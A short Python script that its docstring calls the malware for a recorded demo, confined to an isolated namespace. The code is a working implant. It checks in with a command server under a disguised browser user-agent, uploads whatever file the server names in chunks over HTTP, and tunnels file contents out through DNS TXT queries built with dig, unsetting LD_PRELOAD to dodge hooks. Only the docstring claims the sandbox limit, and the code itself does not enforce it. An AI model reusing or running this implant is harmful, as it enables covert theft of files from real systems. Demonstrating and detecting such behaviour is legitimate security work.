"""Recording only: calls home once and does what it is told: wait, carry a file out, or ask for names.

It plays the malware of the demo. It can do nothing but these three, runs only in a namespace without a way out,
and is started anew for each call by the recording.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import urllib.request
from pathlib import Path

AGENT = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; TideUpdate/2.7)"
CHUNK = 32 * 1024


def post(url: str, data: bytes, kind: str) -> dict[str, str]:
    """Send and take the answer."""
    headers = {"User-Agent": AGENT, "Content-Type": kind, "Accept": "*/*"}
    with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=20) as answer:
        return dict(json.loads(answer.read()))


def carry(home: str, me: str, path: Path) -> None:
    """Post a file in pieces."""
    data = path.read_bytes()
    parts = range(0, len(data), CHUNK)
    for number, start in enumerate(parts, 1):
        url = f"{home}/upload?id={me}&name={path.name}&part={number}&of={len(parts)}"
        post(url, data[start : start + CHUNK], "application/octet-stream")


def names(domain: str, path: Path, count: int) -> None:
    """Ask for names that spell a file."""
    text = base64.b32encode(path.read_bytes()[: count * 70]).decode().lower().rstrip("=")
    for number in range(count):
        piece = text[number * 112 : number * 112 + 112]
        if piece:
            label = f"{number:03d}.{piece[:56]}.{piece[56:]}".rstrip(".")
            ask = ["dig", "+short", "+tries=1", "TXT", f"{label}.{domain}"]
            subprocess.run(["env", "-u", "LD_PRELOAD", *ask], check=False, capture_output=True)


def main(home: str, me: str, sequence: str) -> None:
    """One call."""
    told = post(
        f"{home}/api/v1/status", json.dumps({"id": me, "n": int(sequence), "up": 1}).encode(), "application/json"
    )
    if told["do"] == "carry":
        carry(home, me, Path(told["path"]))
    elif told["do"] == "names":
        names(told["domain"], Path(told["path"]), int(told["count"]))


if __name__ == "__main__":
    main(*sys.argv[1:4])
